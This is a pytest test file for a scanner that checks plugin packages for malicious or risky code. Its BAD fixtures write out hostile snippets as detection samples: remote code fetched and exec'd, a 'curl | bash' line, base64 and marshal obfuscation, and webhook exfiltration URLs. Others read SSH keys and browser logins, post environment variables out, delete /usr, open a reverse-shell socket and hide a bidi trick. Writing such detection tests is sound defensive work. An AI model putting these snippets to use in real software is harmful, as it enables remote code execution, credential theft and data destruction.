from __future__ import annotations

import re
from pathlib import Path

import pytest

from sdk.checks import RULES, SEVERITIES, check_pack

PAGE = Path(__file__).parents[3] / "docs" / "checks.md"
MANIFEST = '[project]\nname = "p"\nversion = "1.0.0"\nlicense = "MIT"\ndependencies = []\n'


def pack(folder: Path, code: str = "", **files: str) -> Path:
    folder = folder / "p"
    folder.mkdir()
    (folder / "pyproject.toml").write_text(MANIFEST)
    (folder / "__init__.py").write_text(code)
    for name, text in files.items():
        (folder / name.replace("__", ".")).write_text(text)
    return folder


def found(folder: Path, **options: object) -> list[tuple[str, int]]:
    return [(item.id, item.line) for item in check_pack(folder, **options)]  # type: ignore[arg-type]


BAD = {
    "CN101": [
        "import requests\nexec(requests.get('http://x').text)",
        "from urllib.request import urlopen\ncode = urlopen('http://x').read()\nexec(compile(code, 'x', 'exec'))",
        "import requests as r\na = r.get('http://x')\nb = a.text\neval(b)",
        "import os\nos.system('curl -s http://x/a.sh | bash')",
        "import requests\nrun = exec\nrun(requests.get('http://x').text)",
        "import requests\ngetattr(__builtins__, 'ex' + 'ec')(requests.get('http://x').text)",
        "import requests\n__builtins__['exec'](requests.get('http://x').text)",
        "import builtins, urllib.request as u\nvars(builtins)['eval'](u.urlopen('http://x').read())",
        "import requests\ndef text():\n    return requests.get('http://x').text\ndef run():\n    exec(text())",
    ],
    "CN102": ["def f(expression):\n    return eval(expression)"],
    "CN103": [
        "import os\nos.system('pip install torch')",
        "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])",
        "import subprocess\ncommand = ['uv', 'pip', 'install', 'x']\nsubprocess.run(command)",
        "import pip\npip.main(['install', 'x'])",
        "import subprocess, sys\nc = [sys.executable, '-m', 'pip']\nc += ['install', 'x']\nsubprocess.run(c)",
        "__import__('os').system('pip install x')",
        "import importlib\nimportlib.import_module('o' + 's').system('pip install x')",
        "import subprocess\nrun = subprocess.run\nrun(['pip', 'install', 'x'])",
    ],
    "CN104": [
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
        "import zlib, marshal\nexec(marshal.loads(zlib.decompress(b'x')))",
        "import base64 as b\ntext = b.b64decode('eA==')\nexec(text)",
        "import base64\nd = base64.b64decode\nexec(d('eA=='))",
        "exec(bytes.fromhex('78').decode())",
        "exec(''.join(map(chr, [112, 114])))",
        "import marshal, types\ntypes.FunctionType(marshal.loads(b'x'), globals())()",
    ],
    "CN105": [f"x = '{'QUJD' * 30000}'", f"x = b'{'a' * 120000}'"],
    "CN106": [
        "URL = 'https://dis' + 'cord.com/api/web' + 'hooks/1/x'",
        "URL = ''.join(['https://discord', '.com/api/webhooks/1'])",
        "URL = 'https://discord.com/api/webhooks/1/x'",
        "URL = 'https://api.telegram.org/bot1:x/send'",
    ],
    "CN107": [
        "p = '~/.ssh/id_rsa'",
        "import os\np = os.path.join(os.environ['LOCALAPPDATA'], 'Google/Chrome/User Data/Default/Login Data')",
        "import os, requests\nrequests.post('http://x', json=dict(os.environ))",
    ],
    "CN108": ["KEY = 'AKIAABCDEFGHIJKLMNOP'", "KEY = 'hf_" + "a" * 34 + "'"],
    "CN109": [
        "open('/etc/hosts', 'w')",
        "import shutil\nshutil.rmtree('/usr')",
        "import os\nopen(os.path.expanduser('~/x'), 'a')",
        "import os\nplace = os.path.expanduser('~/x')\nopen(place, 'w')",
        "from pathlib import Path\n(Path.home() / '.profile').write_text('x')",
    ],
    "CN110": [
        "import os\ndef f(name):\n    os.system('convert ' + name)",
        "import subprocess\ndef f(c):\n    subprocess.run(c, shell=True)",
    ],
    "CN111": ["import pickle, requests\npickle.loads(requests.get('http://x').content)"],
    "CN112": [
        "import yaml\ndef f(p):\n    return yaml.load(p, Loader=yaml.Loader)",
        "import numpy as np\ndef f(p):\n    return np.load(p, allow_pickle=True)",
        "import pickle\npickle.load(open('x', 'rb'))",
        "import torch\ntorch.load('x', weights_only=False)",
    ],
    "CN114": ["import os, socket\ns = socket.socket()\ns.connect(('x', 1))\nos.dup2(s.fileno(), 0)"],
    "CN115": ["allowed = False  # \u202e true \u202c"],
    "CN113": ["import requests\nLIST = requests.get('http://x')"],
}


@pytest.mark.parametrize(("rule", "code"), [(rule, code) for rule, codes in BAD.items() for code in codes])
def test_a_rule_finds_what_it_is_for(rule: str, code: str, tmp_path: Path) -> None:
    lines = {line for name, line in found(pack(tmp_path, code + "\n")) if name == rule}
    assert lines
    assert lines <= set(range(1, code.count("\n") + 2))


GOOD = [
    "import requests\ndef f():\n    return requests.get('http://x').json()",
    "import ast\nx = ast.literal_eval('1')",
    "model.eval()\nre.compile('x')\nself.exec()",
    "import subprocess\nsubprocess.run(['ffmpeg', '-i', 'x'])",
    "import os\nos.system('cls')",
    "'''Run pip install x. See https://discord.com/api/webhooks/1/x'''",
    "# os.system('pip install x')",
    "print('please run: pip install x')",
    "import torch\ntorch.load('x', weights_only=True)\ntorch.load('y')",
    "import base64\nx = base64.b64decode('eA==')",
    "open('output.txt', 'w')\nopen('/etc/hosts')",
    "if __name__ == '__main__':\n    import requests\n    requests.get('http://x')",
    "import os, requests\ndef f():\n    requests.post('http://x', json={'key': os.environ.get('MY_KEY')})",
]


@pytest.mark.parametrize("code", GOOD)
def test_honest_code_gives_no_finding(code: str, tmp_path: Path) -> None:
    assert found(pack(tmp_path, code + "\n")) == []


def test_files_that_are_no_source_are_found(tmp_path: Path) -> None:
    folder = pack(tmp_path)
    (folder / "lib.so").write_bytes(b"\x7fELF")
    (folder / "tool").write_bytes(b"\x7fELF" + b"\0" * 100)
    (folder / "setup.bat").write_text("x")
    (folder / "install.py").write_text("x = 1\n")
    (folder / "a.pyc").write_bytes(b"x")
    got = {(item.id, item.file) for item in check_pack(folder)}
    assert got == {
        ("CN120", "lib.so"),
        ("CN120", "tool"),
        ("CN121", "setup.bat"),
        ("CN122", "install.py"),
        ("CN123", "a.pyc"),
    }


@pytest.mark.parametrize(
    ("requirement", "rules"),
    [
        ("torch==1.13.1", ["CN130"]),
        ("torch<2", ["CN130"]),
        ("numpy~=1.26", ["CN130"]),
        ("torch>2.6,<2.7", ["CN130"]),
        ("torch==2.9.0", ["CN131"]),
        ("torch>=2", []),
        ("torch", []),
        ("torch>=2.7,!=2.8", []),
        ("numpy<3", []),
        ("requests==2.32.0", []),
        ("Torch==1.0; sys_platform == 'nowhere'", []),
        ("thing @ git+https://example.org/thing.git", ["CN132"]),
        ("thing @ git+https://example.org/thing.git@main", ["CN132"]),
        ("thing @ git+https://example.org/thing.git@" + "0" * 40, []),
        ("--extra-index-url https://example.org", ["CN133"]),
        ("# torch==1", []),
    ],
)
def test_requirements_are_compared_with_the_host(requirement: str, rules: list[str], tmp_path: Path) -> None:
    folder = pack(tmp_path, requirements__txt=f"# first\n{requirement}\n")
    got = found(folder, host_ranges={"torch": ">=2.7", "NumPy": ">=2"})
    assert got == [(rule, 2) for rule in rules]


def test_requirements_of_the_manifest_are_found_with_their_line(tmp_path: Path) -> None:
    folder = pack(tmp_path)
    (folder / "pyproject.toml").write_text(MANIFEST.replace("[]", '[\n  "torch<2",\n]'))
    (finding,) = check_pack(folder, host_ranges={"torch": ">=2.7"})
    assert (finding.id, finding.file, finding.line, finding.severity) == ("CN130", "pyproject.toml", 6, "high")


def test_a_missing_licence_and_a_bad_manifest_are_found(tmp_path: Path) -> None:
    folder = pack(tmp_path)
    (folder / "pyproject.toml").write_text(MANIFEST.replace('license = "MIT"\n', ""))
    assert found(folder) == [("CN140", 0)]
    (folder / "LICENSE").write_text("MIT")
    assert found(folder) == []
    (folder / "pyproject.toml").write_text(MANIFEST.replace('"MIT"', '{file = "COPYING"}'))
    assert found(folder) == [("CN140", 0)]
    (folder / "pyproject.toml").write_text("[project]\nversion = 1\n")
    assert found(folder) == [("CN141", 0)]


def test_what_can_not_be_read_is_said(tmp_path: Path) -> None:
    folder = pack(tmp_path, "from outside import NODE_CLASS_MAPPINGS\n", old__py="print 'x'\n")
    assert {name for name, _ in found(folder)} == {"CN150", "CN151"}


def test_a_nodes_file_that_lies_is_found(tmp_path: Path) -> None:
    folder = pack(tmp_path, nodes__json='{"nodes": {"Ghost": {"code": "x", "schema": {}}}}')
    (finding,) = check_pack(folder)
    assert (finding.id, finding.file) == ("CN152", "nodes.json")
    assert "'Ghost'" in finding.message


@pytest.mark.parametrize(
    "code",
    [
        "eval(name)  # comfy-nodes: ignore[CN102] the name is checked above\n",
        "# comfy-nodes: ignore[CN102] the name is checked above\neval(name)\n",
    ],
)
def test_a_suppressed_finding_is_still_listed_with_its_reason(code: str, tmp_path: Path) -> None:
    (finding,) = check_pack(pack(tmp_path, code))
    assert (finding.id, finding.severity, finding.suppressed) == ("CN102", "info", "the name is checked above")


def test_a_finding_of_high_severity_can_not_be_suppressed(tmp_path: Path) -> None:
    code = "import os\nos.system('pip install x')  # comfy-nodes: ignore[CN103] needed\n"
    (finding,) = check_pack(pack(tmp_path, code))
    assert (finding.severity, finding.suppressed) == ("high", "")
    assert "does not count" in finding.message


def test_the_gravest_come_first(tmp_path: Path) -> None:
    code = "import os, requests\neval(x)\nos.system('pip install x')\nrequests.get('http://x')\n"
    assert [item.severity for item in check_pack(pack(tmp_path, code))] == ["high", "medium", "medium"]


@pytest.mark.parametrize("name", ["palette", "placement", "run-report"])
def test_the_sample_packs_have_no_findings(name: str) -> None:
    assert check_pack(Path(__file__).parents[3] / "sample_plugins" / name) == ()


def test_the_page_of_rules_says_what_the_rules_say() -> None:
    text = " ".join(PAGE.read_text(encoding="utf-8").split())
    for rule in RULES.values():
        assert f"### {rule.id}: {rule.title} {rule.severity}. {rule.why} *{rule.fix}*" in text
        assert rule.severity in SEVERITIES
    assert set(re.findall(r"### (CN\d+)", PAGE.read_text(encoding="utf-8"))) == set(RULES)


@pytest.mark.parametrize(
    "deep",
    [
        "x = " + " + ".join(["'a'"] * 1500),
        "x = a" + ".b" * 1500,
        "x = a" + ".b()" * 300,
        "x = " + "f(" * 80 + ")" * 80,
        "x = " + " + ".join(["f()"] * 1500),
    ],
    ids=["texts", "attributes", "calls", "nested", "sums"],
)
def test_deep_code_hides_nothing_beside_it(deep: str, tmp_path: Path) -> None:
    code = f"{deep}\nimport requests\nexec(requests.get('http://x').text)\n"
    assert ("CN101", 3) in found(pack(tmp_path, code))
